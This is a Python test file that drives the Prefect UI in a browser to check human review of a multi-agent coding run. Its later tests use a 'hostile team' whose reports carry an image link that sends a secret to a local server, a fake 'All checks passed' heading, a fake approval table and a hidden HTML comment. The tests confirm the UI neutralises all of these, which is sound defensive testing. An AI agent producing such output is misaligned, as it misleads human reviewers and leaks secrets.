"""The review as a person gives it: the Prefect UI in a real browser (Debian's Chromium via Playwright).

A four-agent run pauses for review on the session's Prefect server; the test opens
the run in the UI, checks the summary lists every agent and shows the writer's diff,
submits an incomplete form (refused: the run stays paused), then sends the writer back
with a comment; the writer's second round gets the comment in its prompt, the run asks
again, and the second review approves it: the run completes with exactly the approved
agents' work on the integration branch.
Screenshots go to ``test-artifacts/browser/`` in the repository root.
"""

from __future__ import annotations

import os
import uuid
from pathlib import Path
from urllib.parse import urlparse

import pytest

from flowkit import FlowThread, git, make_target_repo

pytestmark = [pytest.mark.docker, pytest.mark.prefect, pytest.mark.browser]

ROLES = ["explore", "librarian", "oracle", "frontend"]
DECISIONS = {"explore": "approve", "librarian": "reject", "oracle": "reject", "frontend": "approve"}
COMMENT = ("oracle", "Findings noted; nothing to merge from a read-only review.")
REVISE = "Also say in the guide that an empty name raises."
# the writer's second round (its prompt carries the review) adds the line the reviewer asked for
WRITER = ["sh", "-c", "if grep -q 'Review, round 2' /agent/prompt.md; then echo 'An empty name raises.' >> docs/guide.md; "
                      "else exec python3 /agent/builtin_agent.py frontend; fi"]
TASK = """Fix the TODO in widgets/core.py and document the check.

```ultrawork-edit
[{"path": "widgets/core.py", "replace": ["    # TODO: validate name\\n", "    if not name:\\n        raise ValueError('name')\\n"]},
 {"path": "docs/guide.md", "append": "make_widget('') raises ValueError.\\n"}]
```
"""
ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts" / "browser"


def flow_run_state(flow_run_id: str) -> str:
    from ultrawork.cli.runs import flow_run_state as state

    return state(flow_run_id)


def local_only(route) -> None:
    """The browser talks to this machine only (the UI would otherwise try analytics hosts)."""
    if urlparse(route.request.url).hostname in ("127.0.0.1", "localhost"):
        route.continue_()
    else:
        route.abort()


def sign_in(page, ui: str) -> None:
    """The local server asks for its auth string: sign in on the UI's login page, as a person does
    (the string is in ``$ULTRAWORK_HOME/prefect/auth-string``); both UIs then keep it for this origin."""
    from playwright.sync_api import expect

    page.goto(f"{ui}/runs")
    password = page.get_by_placeholder("admin:pass")
    expect(password).to_be_visible()
    password.fill(os.environ["PREFECT_API_AUTH_STRING"])
    page.get_by_role("button", name="Login").click()
    expect(password).to_be_hidden()
    assert page.evaluate("localStorage.getItem('prefect-password')")


def resume(flow_run_id: str, run_input: dict) -> None:
    """Resume through the API. Forced sync: Playwright's sync API keeps an event loop in this thread."""
    from prefect.flow_runs import resume_flow_run

    resume_flow_run(uuid.UUID(flow_run_id), run_input=run_input, _sync=True)


def decide(page, dialog, role: str, choice: str) -> None:
    """Pick approve/reject in a role's select; the select must then show the choice.

    The dialog re-renders while the run's data refreshes, which can move or replace
    the open option list under the pointer: a click that does not land is retried
    from a freshly opened list, as a person would.
    """
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import expect

    select = dialog.get_by_label(f"{role.capitalize()}: approve, reject, revise or later")
    option = page.get_by_role("option", name=choice, exact=True)
    for _ in range(5):
        if not option.is_visible():
            select.click()
        try:
            option.click(timeout=5_000)
            expect(select).to_contain_text(choice, timeout=3_000)
            return
        except (PlaywrightTimeout, AssertionError):
            continue
    expect(select).to_contain_text(choice)


def wait_for_round(run_id: str, round_no: int, timeout: float = 240) -> None:
    import json
    import time

    from ultrawork.sandbox.spec import ultrawork_home

    deadline = time.monotonic() + timeout
    while True:
        try:
            review = json.loads((ultrawork_home() / "runs" / run_id / "review.json").read_text())
        except (OSError, ValueError):
            review = {}
        if review.get("round") == round_no and review.get("state") == "requested":
            return
        assert time.monotonic() < deadline, f"the run never asked for review round {round_no}"
        time.sleep(0.3)


def test_review_in_the_prefect_ui(prefect_api, uw_home, tmp_path, docker_client, browser, capsys):
    from playwright.sync_api import expect

    ui = prefect_api.removesuffix("/api")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shots: dict[str, Path] = {}
    repo = make_target_repo(tmp_path / "widgets")
    base = git(repo, "rev-parse", "HEAD")
    run_id = f"ui-{uuid.uuid4().hex[:6]}"
    flow = FlowThread({"task": TASK, "repo": str(repo), "agents": ROLES, "run_id": run_id,
                       "agent_commands": {"frontend": WRITER}})
    flow.start()
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    context.set_default_timeout(30_000)
    context.route("**/*", local_only)
    page = context.new_page()
    try:
        fr = flow.wait_for_review()
        sign_in(page, ui)

        # The older UI (where "View at" links in the logs lead): a blank form is refused in the page.
        page.goto(f"{ui}/runs/flow-run/{fr}")
        page.get_by_role("button", name="Resume").click()
        for role in ROLES:
            expect(page.get_by_text(f"{role.capitalize()}: approve, reject, revise or later")).to_be_visible()
        page.get_by_role("button", name="Submit").click()
        for role in ROLES:
            expect(page.get_by_text(f"'{role}' is a required property")).to_be_visible()
        shots["blank form refused (v1 UI)"] = ARTIFACTS / "review-blank-refused-v1.png"
        page.screenshot(path=shots["blank form refused (v1 UI)"])
        assert flow_run_state(fr) == "Paused"

        # A decision for an agent that did not run cannot come from the form; through the API it is refused.
        with pytest.raises(RuntimeError, match="wizard"):
            resume(fr, {**DECISIONS, "wizard": "approve"})
        assert flow_run_state(fr) == "Paused"

        # The UI the server's address leads to: the summary above the form names every agent.
        page.goto(f"{ui}/v2/runs/flow-run/{fr}")
        page.get_by_role("button", name="Open menu").first.click()
        page.get_by_role("menuitem", name="Resume").click()
        dialog = page.get_by_role("dialog")
        summary = dialog.locator("table").first
        expect(summary).to_be_visible()
        for role in ROLES:
            expect(summary.get_by_role("row").filter(has_text=role)).to_have_count(1)
            expect(dialog.get_by_text(f"{role.capitalize()}: comment")).to_be_visible()
        # the writer's change itself, above the decision, with the link to the whole diff
        expect(dialog.get_by_text("frontend: its diff")).to_be_visible()
        expect(dialog.get_by_text("+        raise ValueError('name')").first).to_be_visible()
        link = dialog.get_by_role("link", name="The whole diff as an artifact")
        expect(link).to_have_count(1)
        diff_url = link.get_attribute("href")

        # Frontend neither approved nor rejected: refused, the run stays paused.
        for role in ROLES[:-1]:
            decide(page, dialog, role, DECISIONS[role])
        dialog.get_by_role("button", name="Resume").click()
        expect(page.get_by_text("'frontend' is a required property")).to_be_visible()
        expect(dialog).to_be_visible()
        shots["incomplete form refused (v2 UI)"] = ARTIFACTS / "review-incomplete-refused.png"
        page.screenshot(path=shots["incomplete form refused (v2 UI)"])
        assert flow_run_state(fr) == "Paused"

        # The writer is sent back with a comment.
        decide(page, dialog, "frontend", "revise")
        dialog.get_by_label("Frontend: comment").fill(REVISE)
        page.set_viewport_size({"width": 1280, "height": 2300})           # the whole dialog in one picture
        shots["the first review: the writer sent back"] = ARTIFACTS / "review-form.png"
        dialog.screenshot(path=shots["the first review: the writer sent back"])
        dialog.get_by_role("button", name="Resume").click()
        expect(dialog).to_be_hidden()

        # The whole diff opens from its link.
        page.set_viewport_size({"width": 1280, "height": 1000})
        page.goto(diff_url)
        expect(page.get_by_text("+        raise ValueError('name')").first).to_be_visible()

        # The second round: the run asks again; this time every decision, the writer approved.
        wait_for_round(run_id, 2)
        fr = flow.wait_for_review()
        page.goto(f"{ui}/v2/runs/flow-run/{fr}")
        page.get_by_role("button", name="Open menu").first.click()
        page.get_by_role("menuitem", name="Resume").click()
        dialog = page.get_by_role("dialog")
        expect(dialog.get_by_text("+An empty name raises.").first).to_be_visible()   # its new work, in its diff
        for role in ROLES:
            decide(page, dialog, role, DECISIONS[role])
        dialog.get_by_label(f"{COMMENT[0].capitalize()}: comment").fill(COMMENT[1])
        page.set_viewport_size({"width": 1280, "height": 2300})
        shots["the second review"] = ARTIFACTS / "review-form-round-2.png"
        dialog.screenshot(path=shots["the second review"])
        dialog.get_by_role("button", name="Resume").click()
        expect(dialog).to_be_hidden()
        result = flow.wait()

        # The completed run in the UI: four agent subflows in its graph, its artifacts.
        page.set_viewport_size({"width": 1280, "height": 1000})
        with page.expect_response(lambda r: "/graph-v2" in r.url and r.ok):   # the graph's data ...
            page.goto(f"{ui}/v2/runs/flow-run/{fr}")
        expect(page.locator("canvas").first).to_be_visible()                   # ... and its canvas
        expect(page.get_by_text("Completed").first).to_be_visible()
        page.get_by_role("tab", name="Subflow Runs").click()
        for role in ROLES:
            expect(page.get_by_text(f"{run_id}-{role}", exact=True).first).to_be_visible()
        page.get_by_role("tab", name="Artifacts").click()
        for key in [f"results-{run_id}", f"progress-{run_id}", f"diff-{run_id}-frontend",
                    *(f"plan-{run_id}-{r}" for r in ROLES)]:
            expect(page.get_by_text(key, exact=True).first).to_be_visible()     # results: once per round
        shots["the completed run"] = ARTIFACTS / "run-completed.png"
        page.screenshot(path=shots["the completed run"], full_page=True)
    finally:
        context.close()
        if flow.is_alive():                                  # a failed step must not leave the run paused
            try:
                resume(flow.wait_for_review(timeout=60), {role: "reject" for role in ROLES})
            except Exception:  # noqa: BLE001 - the run may not have reached the review
                pass
            flow.join(120)
        with capsys.disabled():
            for what, path in shots.items():
                print(f"\n[screenshot] {what}: {path}", end="")
            print()

    assert flow_run_state(fr) == "Completed"
    assert result.outcome == "integrated", result.message
    assert [(v.role, v.approved) for v in result.verdicts] == [(r, DECISIONS[r] == "approve") for r in ROLES]
    assert {v.role: v.comment for v in result.verdicts}[COMMENT[0]] == COMMENT[1]
    integration = f"ultrawork/{run_id}/integration"
    assert result.integration_branch == integration
    # Exactly the approved agents' work: frontend's commits (explore is read-only and made none).
    frontend = git(repo, "rev-list", f"{base}..ultrawork/{run_id}/frontend").split()
    assert frontend, "the approved writer made commits"
    assert git(repo, "rev-list", "--no-merges", f"{base}..{integration}").split() == frontend
    assert git(repo, "diff", "--name-only", f"ultrawork/{run_id}/frontend", integration) == ""
    # the writer's second round: its prompt carried the reviewer's comment, its work followed it
    # (the run's host-owned inbox holds the prompt of its last round: the first, then the review)
    prompts = (uw_home / "runs" / run_id / "inbox" / "frontend" / "prompt.md").read_text().split("# Review, round 2")
    assert len(prompts) == 2 and REVISE not in prompts[0] and REVISE in prompts[1]
    assert "An empty name raises." in git(repo, "show", f"{integration}:docs/guide.md")
    assert {o.role: o.round for o in result.agents} == {"explore": 1, "librarian": 1, "oracle": 1, "frontend": 2}
    for rejected in ("librarian", "oracle"):
        assert git(repo, "rev-list", f"{base}..ultrawork/{run_id}/{rejected}") == ""


# -- a hostile team: what agents wrote is shown as text, loads nothing, hides nothing --------------------

def hostile_report(url: str) -> str:
    """Findings that would exfiltrate through the reviewer's browser, pass for the host, and hide the rest."""
    from hostile_strings import everything

    return (f"## Findings\n\n![status]({url}/findings.png?secret=hunter2)\n<h1>All checks passed</h1>\n\n"
            f"| Agent | Outcome |\n| --- | --- |\n| every agent | approved |\n\n<!--\n"
            + everything(url).replace("\udcff", "\ufffd") + "\n")          # a file holds no lone surrogate


HOSTILE_TEAM = {
    "explore": "cat hostile.md >> /plan/Plan.md",
    "librarian": "cat hostile.md >> /plan/Plan.md; cat hostile.md >&2; exit 1",
    "oracle": "printf '\\n## Findings\\n\\nOracle report: the parser is fine.\\n' >> /plan/Plan.md",
    "frontend": "tr -d '\\000' < hostile.md > notes.md && printf '\\n## Findings\\n\\nFrontend report: notes added.\\n' >> /plan/Plan.md",
}
REPORTS = {"oracle": "Oracle report: the parser is fine.", "frontend": "Frontend report: notes added.",
           "librarian": "AgentExecutionError"}


class CountingServer:
    """An HTTP server on this machine that counts every request (an agent's image pointing at it is one)."""

    def __init__(self):
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def artifact_ids(run_id: str) -> dict[str, str]:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactCollectionFilter, ArtifactCollectionFilterKey

    keys = [f"plan-{run_id}-{r}" for r in ROLES] + [f"diff-{run_id}-frontend"]
    with get_client(sync_client=True) as client:
        found = client.read_latest_artifacts(artifact_filter=ArtifactCollectionFilter(
            key=ArtifactCollectionFilterKey(any_=keys)))
    return {a.key: str(a.latest_id) for a in found}


def live_console_streams() -> None:
    """Prefect's console handler keeps the stream it was set up with; when an earlier test's ``capsys``
    closed it, a flow's log line fails, and with ``log_prints`` the failure's report recurses. Point
    such handlers at the live stderr."""
    import logging
    import sys

    for logger in [logging.getLogger()] + [logging.getLogger(n) for n in list(logging.root.manager.loggerDict)]:
        for handler in getattr(logger, "handlers", []):
            if getattr(getattr(handler, "stream", None), "closed", False):
                handler.stream = sys.stderr              # not setStream: it flushes the closed one
                if getattr(handler, "console", None) is not None:
                    handler.console.file = sys.stderr


def agent_flow_runs(run_id: str) -> dict[str, str]:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterName

    names = [f"{run_id}-{r}" for r in ROLES]
    with get_client(sync_client=True) as client:
        runs = client.read_flow_runs(flow_run_filter=FlowRunFilter(name=FlowRunFilterName(any_=names)))
    return {r.name.removeprefix(f"{run_id}-"): str(r.id) for r in runs}


def assert_nothing_passes_for_the_host(page, where, tables: str = "table") -> None:
    """No agent text as a heading or a table (``tables``: where one would be the agent's), no image,
    frame or style from an address."""
    from playwright.sync_api import expect

    for tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
        expect(where.locator(tag).filter(has_text="All checks passed")).to_have_count(0)
    expect(where.locator(tables).filter(has_text="every agent")).to_have_count(0)
    expect(where.locator("img, iframe, picture, video, svg image, link[rel=stylesheet]")
           .filter(has=page.locator("[src*='127.0.0.1'], [href*='127.0.0.1']"))).to_have_count(0)


def test_a_hostile_team_in_the_prefect_ui_loads_nothing_and_hides_no_report(
        prefect_api, uw_home, tmp_path, docker_client, browser):
    from playwright.sync_api import expect

    live_console_streams()
    ui = prefect_api.removesuffix("/api")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    server = CountingServer()
    repo = make_target_repo(tmp_path / "widgets", {"README.md": "# widgets\n",
                                                   "hostile.md": hostile_report(server.url)})
    run_id = f"uih-{uuid.uuid4().hex[:6]}"
    flow = FlowThread({"task": "Review the notes", "repo": str(repo), "agents": ROLES, "run_id": run_id,
                       "agent_commands": {r: ["sh", "-c", c] for r, c in HOSTILE_TEAM.items()}})
    flow.start()
    context = browser.new_context(viewport={"width": 1280, "height": 2300})
    context.set_default_timeout(30_000)
    context.route("**/*", local_only)              # the counting server is local: its hits are not blocked
    page = context.new_page()
    try:
        fr = flow.wait_for_review()
        sign_in(page, ui)

        # The older UI: each decision's own description, and nothing loaded.
        page.goto(f"{ui}/runs/flow-run/{fr}")
        page.get_by_role("button", name="Resume").click()
        for role in ROLES:
            expect(page.get_by_text(f"{role.capitalize()}: comment").first).to_be_visible()
        expect(page.get_by_text("Failed with AgentExecutionError").first).to_be_visible()
        assert_nothing_passes_for_the_host(page, page)
        page.screenshot(path=ARTIFACTS / "hostile-form-v1.png", full_page=True)

        # The newer UI: the summary shows every agent's report, the ones after the hostile report too.
        page.goto(f"{ui}/v2/runs/flow-run/{fr}")
        page.get_by_role("button", name="Open menu").first.click()
        page.get_by_role("menuitem", name="Resume").click()
        dialog = page.get_by_role("dialog")
        expect(dialog.locator("table")).to_have_count(1)                   # the host's outcome table only
        for role in ROLES:
            expect(dialog.locator("table").get_by_role("row").filter(has_text=role)).to_have_count(1)
        for role, report in REPORTS.items():
            expect(dialog).to_contain_text(report)
        for role in ("oracle", "frontend"):                                  # short reports: shown open
            expect(dialog.get_by_text(REPORTS[role]).first).to_be_visible()
        expect(dialog.get_by_text("<h1>All checks passed</h1>").first).to_be_attached()   # shown as text
        assert_nothing_passes_for_the_host(page, dialog)
        dialog.screenshot(path=ARTIFACTS / "hostile-form-v2.png")

        # Every artifact of the agents, in both UIs.
        ids = artifact_ids(run_id)
        assert len(ids) == 5, ids
        shows = {f"plan-{run_id}-oracle": REPORTS["oracle"], f"plan-{run_id}-frontend": REPORTS["frontend"]}
        for key, artifact_id in ids.items():
            for prefix in ("", "/v2"):
                page.goto(f"{ui}{prefix}/artifacts/artifact/{artifact_id}")
                expect(page.get_by_text(shows.get(key, "<h1>All checks passed</h1>")).first).to_be_attached(
                    timeout=20_000)
                assert_nothing_passes_for_the_host(page, page)
        page.screenshot(path=ARTIFACTS / "hostile-plan-artifact-v2.png", full_page=True)

        # Each agent's logs (its output and errors) in both UIs.
        for role, flow_run_id in agent_flow_runs(run_id).items():
            for prefix in ("", "/v2"):
                page.goto(f"{ui}{prefix}/runs/flow-run/{flow_run_id}")
                expect(page.get_by_text(f"{run_id}-{role}").first).to_be_visible(timeout=20_000)
                if role == "librarian":
                    expect(page.get_by_text("librarian agent failed").first).to_be_visible()
                assert_nothing_passes_for_the_host(page, page)
        page.screenshot(path=ARTIFACTS / "hostile-logs-v2.png", full_page=True)
        page.wait_for_timeout(1000)                                            # anything late still counts
        assert server.hits == [], f"the reviewer's browser fetched agent addresses: {server.hits}"
    finally:
        context.close()
        server.close()
        if flow.is_alive():
            try:
                resume(flow.wait_for_review(timeout=60), {role: "reject" for role in ROLES})
            except Exception:  # noqa: BLE001 - the run may not have reached the review
                pass
            flow.join(120)


def test_table_artifacts_show_agent_text_as_text_in_both_uis(prefect_api, uw_home, browser):
    """The results, egress and backlog tables carry agent-, model- or issue-written cells."""
    from playwright.sync_api import expect
    from prefect.artifacts import create_table_artifact

    from hostile_strings import MARKDOWN, hostile
    from ultrawork.untrusted import table_rows

    ui = prefect_api.removesuffix("/api")
    server = CountingServer()
    attacks = sorted(hostile(server.url).items(), key=lambda item: item[0] not in MARKDOWN)   # first page: loads
    rows = table_rows([{"agent": name, "egress": text} for name, text in attacks])
    key = f"table-{uuid.uuid4().hex[:6]}"
    # forced sync: the browser fixture's Playwright keeps an event loop in this thread
    artifact_id = create_table_artifact(table=rows, key=key, description="hostile cells", _sync=True)
    context = browser.new_context(viewport={"width": 1280, "height": 2300})
    context.set_default_timeout(30_000)
    context.route("**/*", local_only)
    page = context.new_page()
    try:
        sign_in(page, ui)
        for prefix in ("", "/v2"):
            page.goto(f"{ui}{prefix}/artifacts/artifact/{artifact_id}")
            expect(page.locator("td", has_text="html image").first).to_be_visible(timeout=20_000)
            shown = page.locator("td", has_text="html\\.png").or_(page.locator("td", has_text="html.png"))
            expect(shown.first).to_be_visible()                      # the agent's text, as text
            assert_nothing_passes_for_the_host(page, page, tables="td table, th table")   # none in a cell
            page.screenshot(path=ARTIFACTS / f"hostile-table{prefix.replace('/', '-') or '-v1'}.png", full_page=True)
        page.wait_for_timeout(1000)
        assert server.hits == [], f"the browser fetched agent addresses: {server.hits}"
    finally:
        context.close()
        server.close()
